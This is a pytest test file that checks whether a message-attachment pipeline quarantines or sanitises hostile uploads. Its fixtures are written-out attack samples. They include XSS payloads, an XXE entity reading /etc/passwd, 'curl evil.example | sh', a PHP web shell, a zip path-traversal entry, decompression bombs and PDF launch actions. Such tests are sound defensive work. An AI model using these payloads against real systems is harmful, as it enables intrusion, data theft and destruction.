"""Files that want to do harm: each is locked away, or kept in a form that can do none."""

import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image

from besadu import rendering
from besadu.domain.evidence import quarantine_name
from besadu.domain.message import Attachment
from besadu_local.stack import Stack
from tests.samples import letter, photo, recording, saved, scene
from tests.services.test_settling import Desk

SCRIPT = b"<script>alert(document.domain)</script>"
TYPES = "[Content_Types].xml"


@pytest.fixture(scope="module")
def desk(stack: Stack) -> Desk:
    return Desk(stack)


def archive(*names: str, first: bytes = b"<x/>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for at, name in enumerate(names):
            made.writestr(name, first if at == 0 else b"<x/>" + name.encode())
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_saying(width: int, height: int) -> bytes:
    """A small file that decodes to whatever it says."""
    body = zlib.compress(bytes(100_000), 9)
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def jpeg_saying(width: int, height: int) -> bytes:
    good = bytearray(photo(size=(64, 48)))
    at = good.index(b"\xff\xc0")
    good[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(good)


MACROS_LAST = archive(
    TYPES, "_rels/.rels", "word/document.xml", *(f"word/media/{n}.xml" for n in range(900)), "word/vbaProject.bin"
)

LOCKED = {
    "nothing": b"",
    "svg with a script": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "svg behind a byte order mark": b"\xef\xbb\xbf<svg onload='alert(1)'/>",
    "svg behind an xml head": b"<?xml version='1.0'?><svg onload='alert(1)'/>",
    "svg behind a doctype": b"<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'x'><svg onload='alert(1)'/>",
    "svg packed": zlib.compress(b"<svg/>"),
    "svgz": b"\x1f\x8b\x08" + bytes(50),
    "html": b"<!doctype html>" + SCRIPT,
    "html behind spaces": b"  \n\t<html>" + SCRIPT,
    "html behind a comment": b"<!-- jpeg --><html>" + SCRIPT,
    "html in utf-16": "<html><script>1</script>".encode("utf-16"),
    "html behind zeros": bytes(8) + b"<html>" + SCRIPT,
    "html in front of an mp4": b"<html>" + SCRIPT + recording("aac", "mp4", 44_100, seconds=1),
    "html in front of a jpeg": SCRIPT + photo(size=(64, 48)),
    "html in front of a pdf": SCRIPT + b"%PDF-1.7\n",
    "a jpeg behind one byte": b"\x00" + photo(size=(64, 48)),
    "mhtml": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + SCRIPT,
    "javascript": b"alert(1)//\xff\xd8\xff",
    "json": b'{"a": 1}',
    "xml that reads files": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "xsl": b"<xsl:stylesheet version='1.0'/>",
    "windows program": b"MZ\x90\x00" + bytes(500),
    "windows program that ends as a jpeg": b"MZ\x90\x00" + bytes(500) + photo(size=(64, 48)),
    "windows shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100),
    "linux program": b"\x7fELF\x02\x01\x01" + bytes(100),
    "mac program": b"\xcf\xfa\xed\xfe" + bytes(100),
    "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100),
    "android program": archive("AndroidManifest.xml", "classes.dex", "resources.arsc"),
    "android code": b"dex\n035\x00" + bytes(100),
    "webassembly": b"\x00asm\x01\x00\x00\x00",
    "shell script": b"#!/bin/sh\ncurl evil.example | sh\n",
    "batch file": b"@echo off\r\ndel *.*\r\n",
    "powershell": b"Invoke-WebRequest http://evil.example\r\n",
    "php": b"<?php system($_GET[0]);",
    "zip": archive("foto.jpg"),
    "zip with a way out": archive("../../etc/cron.d/x"),
    "zip in a zip": archive("a.zip", first=archive("b.exe")),
    "empty zip": b"PK\x05\x06" + bytes(18),
    "zip that is only called docx": archive("document.xml", "word/document.xml"),
    "docx that begins with a program": archive("setup.exe", TYPES, "word/document.xml"),
    "jar called docx": archive("META-INF/MANIFEST.MF", "word/document.xml"),
    "docm": archive(TYPES, "_rels/.rels", "word/document.xml", "word/vbaProject.bin"),
    "docm with its macros far behind": MACROS_LAST,
    "xlsm": archive(TYPES, "_rels/.rels", "xl/workbook.xml", "xl/vbaProject.bin"),
    "docx with activex": archive(TYPES, "_rels/.rels", "word/document.xml", "word/activeX/activeX1.bin"),
    "docx with a program inside": archive(TYPES, "_rels/.rels", "word/document.xml", "word/embeddings/oleObject1.bin"),
    "pptx": archive(TYPES, "_rels/.rels", "ppt/presentation.xml"),
    "epub": archive("mimetype", first=b"application/epub+zip"),
    "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "rtf": b"{\\rtf1\\object\\objdata}",
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(50),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50),
    "tar": b"a.txt" + bytes(252) + b"ustar\x0000" + bytes(248),
    "gzip bomb": zlib.compress(bytes(1_000_000), 9, 31),
    "disk image": bytes(512) + b"EFI PART" + bytes(100),
    "gif": b"GIF89a" + SCRIPT,
    "bmp": b"BM" + bytes(60),
    "tiff": b"II*\x00" + bytes(60),
    "ico": b"\x00\x00\x01\x00\x01\x00" + bytes(60),
    "avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(60),
    "avi": b"RIFF\x10\x00\x00\x00AVI LIST" + bytes(60),
    "flash": b"FWS\x0a" + bytes(60),
    "matroska that is no webm": b"\x1a\x45\xdf\xa3\x9fB\x82\x88matroska" + bytes(60),
    "ogg film": b"OggS\x00\x02" + bytes(22) + b"\x80theora" + bytes(60),
    "mp4 of an unknown brand": b"\x00\x00\x00\x14ftypevil\x00\x00\x00\x00evil" + bytes(60),
    "postscript": b"%!PS-Adobe-3.0\n",
    "pdf behind a kilobyte": bytes(1000) + b"%PDF-1.7\n",
    "a font": b"\x00\x01\x00\x00\x00\x0c" + bytes(60),
    "sqlite": b"SQLite format 3\x00" + bytes(60),
    "a certificate": b"-----BEGIN PRIVATE KEY-----\n",
    "png of 20 kB that decodes to 4 GB": png_saying(32_000, 32_000),
    "png one pixel high": png_saying(2_000_000_000, 1),
    "jpeg of 4 gigapixels": jpeg_saying(65_000, 65_000),
    "webp of 268 megapixels": b"RIFF\x00\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00"
    + bytes(4)
    + b"\xff\x3f\x00\xff\x3f\x00"
    + bytes(20),
}

HARMLESS = {
    "jpeg with a script in its exif": photo(exif=True).replace(b"Siti Rahayu", b"<script>1//"),
    "jpeg with a script behind it": photo() + SCRIPT,
    "jpeg that is a zip as well": photo() + archive("evil.exe"),
    "jpeg with php in a comment": b"\xff\xd8\xff\xfe\x00\x1b<?php system($_GET[0]);?>" + photo()[2:],
    "png with a script in its text": saved(scene(), "PNG")[:33]
    + chunk(b"tEXt", b"a\0" + SCRIPT)
    + saved(scene(), "PNG")[33:],
    "png with a script behind it": saved(scene(), "PNG") + SCRIPT,
    "webp with a script behind it": saved(scene(), "WEBP") + SCRIPT,
}

KEPT_UNSHOWN = {
    "jpeg that ends early": photo()[:3000],
    "jpeg that is only a beginning": b"\xff\xd8\xff\xe0" + SCRIPT,
    "png that says nothing": b"\x89PNG\r\n\x1a\n" + SCRIPT,
    "png with broken checksums": png_saying(300, 300)[:-30] + b"\x00" * 30,
    "heic that is only a brand": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + SCRIPT,
    "film that is only a brand": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isommp42" + SCRIPT,
    "film whose boxes lead in circles": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isommp42"
    + (b"\x00\x00\x00\x08moov" * 900),
    "png with a bomb in its text": saved(scene(), "PNG")[:33]
    + chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(30_000_000), 9))
    + saved(scene(), "PNG")[33:],
    "pdf that is only a beginning": b"%PDF-1.7\n" + SCRIPT,
    "pdf whose pages lead in circles": letter(1)
    .replace(b"/Kids [", b"/Kids [ 6 0 R 6 0 R ", 1)
    .replace(b"/Count 1", b"/Count 9"),
    "pdf behind a password": b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj "
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj 3 0 obj<</Filter/Standard/V 1/R 2/P -44"
    b"/O(oooooooooooooooooooooooooooooooo)/U(uuuuuuuuuuuuuuuuuuuuuuuuuuuuuuuu)>>endobj "
    b"trailer<</Root 1 0 R/Encrypt 3 0 R>>",
    "amr of noise": b"#!AMR\n" + bytes(range(256)) * 9,
}


def test_there_are_enough_of_them() -> None:
    assert len(LOCKED) + len(HARMLESS) + len(KEPT_UNSHOWN) >= 50


@pytest.mark.parametrize("name", LOCKED)
def test_what_is_no_evidence_is_locked_away_with_a_reason(desk: Desk, name: str) -> None:
    item = desk.settled(LOCKED[name])
    assert (item.state, item.mime, item.renditions) == ("quarantined", "", ())
    assert item.object_name == quarantine_name(item.id)
    assert item.reason
    assert b"".join(desk.media.open(item.object_name)) == LOCKED[name]


@pytest.mark.parametrize(
    ("said", "body", "why"),
    [
        ("image/jpeg", letter(1), "adalah dokumen, padahal dikirim sebagai gambar"),
        ("application/pdf", photo(), "adalah gambar, padahal dikirim sebagai dokumen"),
        ("video/mp4", photo(), "adalah gambar, padahal dikirim sebagai suara atau video"),
        ("image/png", recording("libmp3lame", "mp3", 44_100, seconds=1), "adalah suara atau video"),
    ],
)
def test_what_was_sent_as_something_else_is_locked_away_and_says_so(
    desk: Desk, said: str, body: bytes, why: str
) -> None:
    item = desk.settled(body, attachment=Attachment(kind="document", mime=said))
    assert (item.state, item.object_name) == ("quarantined", quarantine_name(item.id))
    assert why in item.reason


@pytest.mark.parametrize("said", ["", "image/png", "image/heic", "application/octet-stream", "binary", "text/plain"])
def test_a_sender_that_errs_within_a_family_or_says_nothing_loses_nothing(desk: Desk, said: str) -> None:
    item = desk.settled(photo(), attachment=Attachment(kind="document", mime=said))
    assert (item.state, item.mime) == ("stored", "image/jpeg")


@pytest.mark.parametrize("name", HARMLESS)
def test_a_picture_with_something_beside_it_is_shown_without(desk: Desk, name: str) -> None:
    item = desk.settled(HARMLESS[name])
    assert item.state == "stored"
    for part in ("view", "thumb"):
        body = desk.part(item, part)
        assert Image.open(io.BytesIO(body)).format == "JPEG"
        assert not any(trace in body for trace in (b"<script", b"<?php", b"PK\x03\x04", b"Exif"))


@pytest.mark.parametrize(
    "beside",
    [
        b"/OpenAction << /S /JavaScript /JS (this.exportDataObject\\({ cName: 'x', nLaunch: 2 }\\)) >>",
        b"/AA << /WC << /S /Launch /F (cmd.exe) >> >>",
        b"/Names << /EmbeddedFiles << /Names [ (x.exe) << /Type /Filespec /F (x.exe) >> ] >> >>",
        b"/AcroForm << /XFA (<xdp:xdp/>) /Fields [] >>",
        b"/URI << /Base (https://evil.example/) >>",
    ],
)
def test_a_pdf_goes_on_without_what_it_would_do(desk: Desk, beside: bytes) -> None:
    item = desk.settled(letter(1, beside=beside))
    assert item.state == "stored"
    copy = desk.part(item, "save")
    names = (b"/JavaScript", b"/Launch", b"/EmbeddedFiles", b"/XFA", b"/URI", b"/OpenAction", b"/AA")
    assert not any(name in copy for name in names)


def test_a_page_that_says_it_is_a_kilometre_wide_is_as_large_as_any_other(desk: Desk) -> None:
    item = desk.settled(letter(1).replace(b"/MediaBox [ 0 0 595.2 841.92 ]", b"/MediaBox [ 0 0 9e6   9e6    ]"))
    assert max(Image.open(io.BytesIO(desk.part(item, "view"))).size) <= rendering.PAGE


@pytest.mark.parametrize("name", KEPT_UNSHOWN)
def test_what_no_decoder_understands_is_kept_and_not_shown(desk: Desk, name: str) -> None:
    item = desk.settled(KEPT_UNSHOWN[name])
    assert (item.state, [part.name for part in item.renditions if part.name == "view"]) == ("stored", [])
